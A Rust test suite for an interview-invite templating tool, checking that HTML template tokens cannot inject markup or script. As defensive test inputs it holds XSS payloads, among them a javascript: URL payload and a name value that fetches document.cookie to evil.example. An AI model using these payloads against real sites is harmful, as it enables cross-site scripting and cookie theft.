//! Regressions: where a token stands in an HTML body is decided by an HTML tokenizer, and a
//! value never adds an element or an attribute.

use assert_cmd::Command;
use invitoken::{
    Field, FindingKind, HtmlPlace, Located, Request, ResolveError, SandboxMinter, Token,
};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::support;

/// A request with two events (so the candidate's invite covers both, an interviewer's one),
/// HTML bodies, and the given name and topics.
fn request(name: &str, topics: [&str; 2], candidate_body: &str, interviewer_body: &str) -> Value {
    json!({
        "interview": {
            "id": "int-html",
            "candidate": {"name": name, "email": "ada@example.org"},
            "codesignal": {"template_id": "tpl-1"},
            "events": [
                {"id": "e1", "topic": topics[0], "start": "2027-03-02T09:00:00Z", "end": "2027-03-02T10:00:00Z",
                 "interviewers": [{"name": "Grace", "email": "grace@example.com"}]},
                {"id": "e2", "topic": topics[1], "start": "2027-03-02T11:00:00Z", "end": "2027-03-02T12:00:00Z",
                 "interviewers": [{"name": "Ken", "email": "ken@example.com"}]}
            ]
        },
        "templates": {
            "candidate": {"subject": "Interview", "body": candidate_body, "format": "html"},
            "interviewer": {"subject": "Interview", "body": interviewer_body, "format": "html"}
        }
    })
}

fn resolve(request: &Value) -> Result<invitoken::Resolution, ResolveError> {
    let request = Request::from_json(&request.to_string()).expect("a valid request");
    tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap()
        .block_on(invitoken::resolve(&request, &SandboxMinter::default()))
}

/// The findings of a request that must be refused.
fn refused(request: &Value) -> Vec<Located> {
    match resolve(request) {
        Err(ResolveError::Templates(found)) => found,
        Err(other) => panic!("refused for another reason: {other}"),
        Ok(r) => panic!(
            "resolved: {:?}",
            r.invites.iter().map(|i| &i.body).collect::<Vec<_>>()
        ),
    }
}

/// The place of every HTML-context finding, in order.
fn places(found: &[Located]) -> Vec<HtmlPlace> {
    found
        .iter()
        .map(|l| match &l.finding.kind {
            FindingKind::HtmlContext { place, .. } => place.clone(),
            other => panic!("{other:?}"),
        })
        .collect()
}

/// Runs `invitoken check` on a file named `name` holding `text`: (exit code, stderr).
fn check(name: &str, text: &str) -> (i32, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, text).unwrap();
    let out = Command::cargo_bin("invitoken")
        .unwrap()
        .env("INVITOKEN_LEDGER", support::scratch::fresh_ledger())
        .env("NO_COLOR", "1")
        .arg("check")
        .arg(&path)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn name_in_unquoted_attribute_adds_attributes() {
    let body = "<p><img alt=$Candidate.Name></p>";
    let found = refused(&request("x onerror=alert(1) src=y", ["A", "B"], body, body));
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(
        places(&found)[0],
        HtmlPlace::UnquotedAttribute {
            attribute: "alt".into(),
            value: "$Candidate.Name".into()
        }
    );
    assert_eq!(found[0].finding.span, 12..27);
    assert_eq!(
        found[0].finding.help().unwrap(),
        "quote the attribute: write `alt=\"$Candidate.Name\"`"
    );
    // `check` of the request says the same, at line:col, with the fix.
    let (code, stderr) = check(
        "request.json",
        &request("Ada", ["A", "B"], body, "ok").to_string(),
    );
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("request.json#/templates/candidate/body:1:13"),
        "{stderr}"
    );
    assert!(
        stderr.contains("help: quote the attribute: write `alt=\"$Candidate.Name\"`"),
        "{stderr}"
    );
}

#[test]
fn gt_in_earlier_quoted_attribute_puts_link_list_in_href() {
    // The hand scan saw the `>` in `title` as the end of the tag, so the candidate's `href`
    // (two events) got the whole HTML list of links.
    let body = r#"<a title="a>b" href="$Event.CodeSignal.Live.Link">join</a>"#;
    let found = refused(&request("Ada", ["A", "B"], body, body));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].field, Field::CandidateBody);
    assert!(matches!(
        found[0].finding.kind,
        FindingKind::EventTokenAmbiguous {
            token: Token::EventLiveLink,
            events: 2,
            single_value: true,
        }
    ));
    // In an interviewer's invite (one event) it is one URL, inside the attribute.
    let r = resolve(&request("Ada", ["A", "B"], "no tokens", body)).unwrap();
    let href = &r.invites[1].body;
    assert!(
        href.starts_with(r#"<a title="a>b" href="https://"#) && href.ends_with(r#"">join</a>"#),
        "{href}"
    );
    assert!(!href.contains("<br>"), "{href}");
}

#[test]
fn tokens_in_script_style_comments_and_rcdata_are_written_html_escaped_where_that_does_not_protect()
{
    for (body, place) in [
        (
            "<script>var n = '$Candidate.Name';</script>",
            HtmlPlace::RawText {
                element: "script".into(),
            },
        ),
        (
            "<style>p::after { content: '$Event.Topic' }</style>",
            HtmlPlace::RawText {
                element: "style".into(),
            },
        ),
        (
            "<title>$Candidate.Name</title>",
            HtmlPlace::RawText {
                element: "title".into(),
            },
        ),
        (
            "<TEXTAREA>$Candidate.Name</TEXTAREA>",
            HtmlPlace::RawText {
                element: "textarea".into(),
            },
        ),
        ("<!-- $Candidate.Name -->", HtmlPlace::Comment),
        (
            "<!--[if mso]><v:roundrect href=\"$Interview.CodeSignal.Live.Link\"><![endif]-->",
            HtmlPlace::Comment,
        ),
    ] {
        let found = refused(&request("Ada", ["A", "B"], body, "ok"));
        assert_eq!(places(&found), [place], "{body}");
    }
}

#[test]
fn tokens_in_tag_or_attribute_names_make_markup() {
    for (body, place) in [
        ("<$Candidate.Name>", HtmlPlace::TagName),
        ("</$Candidate.Name>", HtmlPlace::TagName),
        ("<h$Event.Topic>", HtmlPlace::TagName),
        ("<p $Candidate.Name>", HtmlPlace::AttributeName),
        ("<p data-$Candidate.Name=\"1\">", HtmlPlace::AttributeName),
        ("<!DOCTYPE $Candidate.Name>", HtmlPlace::Markup),
    ] {
        let found = refused(&request("script", ["A", "B"], body, "ok"));
        assert_eq!(places(&found), [place], "{body}");
    }
}

#[test]
fn name_in_href_or_handler_attribute_runs_script() {
    for (body, place) in [
        (
            r#"<a href="$Candidate.Name">you</a>"#,
            HtmlPlace::UrlScheme {
                attribute: "href".into(),
            },
        ),
        (
            r#"<a onclick="$Candidate.Name">you</a>"#,
            HtmlPlace::ActiveAttribute {
                attribute: "onclick".into(),
            },
        ),
        (
            r#"<iframe srcdoc="$Event.Topic"></iframe>"#,
            HtmlPlace::ActiveAttribute {
                attribute: "srcdoc".into(),
            },
        ),
    ] {
        let found = refused(&request("javascript:alert(1)", ["A", "B"], body, "ok"));
        assert_eq!(places(&found), [place], "{body}");
    }
    // After a fixed start, a value is only part of the URL.
    let r = resolve(&request(
        "javascript:alert(1)",
        ["A", "B"],
        r#"<a href="https://example.com/?n=$Candidate.Name">you</a>"#,
        "ok",
    ))
    .unwrap();
    assert_eq!(
        r.invites[0].body,
        r#"<a href="https://example.com/?n=javascript:alert(1)">you</a>"#
    );
}

#[test]
fn name_after_javascript_scheme_or_in_a_url_list_runs_script() {
    // HTML escaping does not protect a value inside a `javascript:` URL: the attribute's
    // `&#39;` is decoded back to `'` before the script runs. A `:` before the token used to be
    // taken as "the scheme is fixed", whatever the scheme.
    let name = "x');fetch('https://evil.example/'+document.cookie);('";
    for (body, attribute) in [
        (
            r#"<a href="javascript:alert('$Candidate.Name')">hi</a>"#,
            "href",
        ),
        (r#"<a href=" VBScript:msgbox $Event.Topic">hi</a>"#, "href"),
        (r#"<a href="data:text/html,$Candidate.Name">hi</a>"#, "href"),
        (
            r#"<a href="java&#115;cript&#58;//%0aalert($Candidate.Name)">hi</a>"#,
            "href",
        ),
        // Every URL of a list, and the URL an SVG animation or a refresh sets, is a URL.
        (r#"<img srcset="/a.png 1x, $Candidate.Name 2x">"#, "srcset"),
        // The value itself may hold the separator: `1x, javascript:... 2x`.
        (r#"<img srcset="/a.png?n=$Candidate.Name 1x">"#, "srcset"),
        (
            r#"<svg><animate attributeName="href" values="/a;/b?n=$Candidate.Name"/></svg>"#,
            "values",
        ),
        (
            r#"<svg><set attributeName="href" to="$Candidate.Name"/></svg>"#,
            "to",
        ),
        (
            r#"<meta http-equiv="refresh" content="0; url=$Candidate.Name">"#,
            "content",
        ),
    ] {
        let found = refused(&request(name, [name, "B"], body, "ok"));
        assert_eq!(
            places(&found),
            [HtmlPlace::UrlScheme {
                attribute: attribute.into()
            }],
            "{body}"
        );
    }
    let (code, stderr) = check(
        "invite.html",
        "<p>\n<a href=\"javascript:go('$Candidate.Name')\">x</a></p>\n",
    );
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("invite.html:2:25"), "{stderr}");
    // An inert scheme, or a relative URL, still takes a value after it.
    let r = resolve(&request(
        name,
        ["A", "B"],
        r#"<a href="mailto:$Candidate.Name">x</a><a href="/p?n=$Candidate.Name">y</a>"#,
        "ok",
    ))
    .unwrap();
    assert!(
        r.invites[0].body.starts_with(r#"<a href="mailto:x&#39;);"#),
        "{}",
        r.invites[0].body
    );
}

#[test]
fn html_template_file_with_unquoted_attribute_passes_check() {
    let (code, stderr) = check("invite.html", "<p>\n  <img alt=$Candidate.Name>\n</p>\n");
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("invite.html:2:12"), "{stderr}");
    assert!(stderr.contains("quote the attribute"), "{stderr}");
    // The same text is fine where it is not HTML.
    let (code, stderr) = check("invite.txt", "<p>\n  <img alt=$Candidate.Name>\n</p>\n");
    assert_eq!(code, 0, "{stderr}");
}

/// Every element of `html` (parsed as a body fragment by html5ever, through scraper), in
/// document order, with its attribute names, sorted.
fn shape(html: &str) -> Vec<(String, Vec<String>)> {
    let doc = scraper::Html::parse_fragment(html);
    doc.root_element()
        .descendent_elements()
        .map(|e| {
            let mut names: Vec<String> =
                e.value().attrs().map(|(name, _)| name.to_owned()).collect();
            names.sort();
            (e.value().name().to_owned(), names)
        })
        .collect()
}

/// Templates covering text, double- and single-quoted attributes, a `>` in an earlier attribute
/// and the candidate's list of links. Each is (candidate body, interviewer body).
const ACCEPTED: [(&str, &str); 4] = [
    (
        "<p>Hi <b>$Candidate.Name</b>, $Interview.Start</p><div>$Event.CodeSignal.Live.Link</div>",
        "<p>$Candidate.FirstName: <i>$Event.Topic</i> &amp; more</p>",
    ),
    (
        r#"<a href="$Interview.CodeSignal.Live.Link" title="$Candidate.Name">join</a>"#,
        r#"<a title="a>b" href="$Event.CodeSignal.Live.Link" data-x="$Event.Topic">$Event.Topic</a>"#,
    ),
    (
        "<img alt='$Candidate.Name' src='https://example.com/p.png'><br/>$Candidate.Name",
        "<table><tr><td title='$Event.Topic'>$Candidate.Name</td></tr></table>",
    ),
    (
        r#"<a href="https://example.com/?n=$Candidate.Name&amp;t=1">x</a>"#,
        r#"<p class="a $Event.Topic b">$Event.Topic$Candidate.Name</p>"#,
    ),
];

/// Templates that must be refused, whatever the values.
const REFUSED: [&str; 4] = [
    "<img alt=$Candidate.Name>",
    "<p title=x$Event.Topic>",
    "<title>$Candidate.Name</title>",
    "<p $Candidate.Name>",
];

/// Values made of what breaks HTML: quotes, `<>&=`, spaces, backticks, `/`, `-`, `!`, NUL,
/// line breaks, letters, unicode.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "\"", "'", "<", ">", "&", "=", " ", "`", "/", "-", "!", "\0", "\r\n", "a", "B", "script",
        "onerror", "--", "é", "\u{2028}", "&amp;", "<b>", "\"'>", "x=y",
    ]);
    prop::collection::vec(pieces, 0..12).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn hostile_values_add_no_elements_or_attributes(
        name in hostile(),
        topic_a in hostile(),
        topic_b in hostile(),
        which in 0..ACCEPTED.len(),
    ) {
        // A name with no letters has no first name, and a blank one is refused: keep one letter.
        let name = format!("N{name}");
        let (candidate, interviewer) = ACCEPTED[which];
        let input = request(&name, [&topic_a, &topic_b], candidate, interviewer);
        // Should request validation come to refuse some of these values, they are not ours.
        prop_assume!(Request::from_json(&input.to_string()).is_ok());
        let hostile = resolve(&input)
            .expect("accepted templates resolve");
        let benign = resolve(&request("N", ["A", "B"], candidate, interviewer)).unwrap();
        prop_assert_eq!(hostile.invites.len(), benign.invites.len());
        for (h, b) in hostile.invites.iter().zip(&benign.invites) {
            prop_assert_eq!(shape(&h.body), shape(&b.body), "{}", h.body);
        }
    }

    #[test]
    fn hostile_values_in_unsafe_places_are_refused(
        name in hostile(),
        topic in hostile(),
        which in 0..REFUSED.len(),
    ) {
        let name = format!("N{name}");
        let input = request(&name, [&topic, "B"], REFUSED[which], "ok");
        prop_assume!(Request::from_json(&input.to_string()).is_ok());
        let found = refused(&input);
        prop_assert_eq!(found.len(), 1);
        let is_html_context = matches!(found[0].finding.kind, FindingKind::HtmlContext { .. });
        prop_assert!(is_html_context);
    }
}

#[test]
fn token_written_with_character_references_reached_recipients_as_its_text() {
    // The lexer reads the source and saw no token; a browser decodes `&#36;` to `$` and showed
    // the recipient `$Event.CodeSignal.Live.Link`, raw.
    for (body, shape) in [
        (
            "<p>Join: &#36;Event.CodeSignal.Live.Link</p>",
            "&#36;Event.CodeSignal.Live.Link",
        ),
        (
            "<p><a href=\"&dollar;Interview.CodeSignal.Live.Link\">join</a></p>",
            "&dollar;Interview.CodeSignal.Live.Link",
        ),
        (
            "<p>&#x24;&#69;vent&period;Topic</p>",
            "&#x24;&#69;vent&period;Topic",
        ),
        ("<p>&#65284;Candidate.Name</p>", "&#65284;Candidate.Name"),
    ] {
        let found = refused(&request("Ada", ["A", "B"], body, "<p>ok</p>"));
        assert_eq!(found.len(), 1, "{body}: {found:?}");
        assert!(
            matches!(
                &found[0].finding.kind,
                FindingKind::UnknownToken { shape: s, .. } if s == shape
            ),
            "{body}: {found:?}"
        );
        let (code, stderr) = check("invite.html", body);
        assert_eq!(code, 1, "{body}: {stderr}");
        assert!(stderr.contains("did you mean `$"), "{body}: {stderr}");
    }
    // References to other characters, and a reference to `$` before what is no token, are text.
    let body = "<p>Fish &amp; chips &#36;5 &dollar;100 $$Event.Topic</p>";
    assert!(resolve(&request("Ada", ["A", "B"], body, body)).is_ok());
    assert_eq!(check("invite.html", body).0, 0);
}
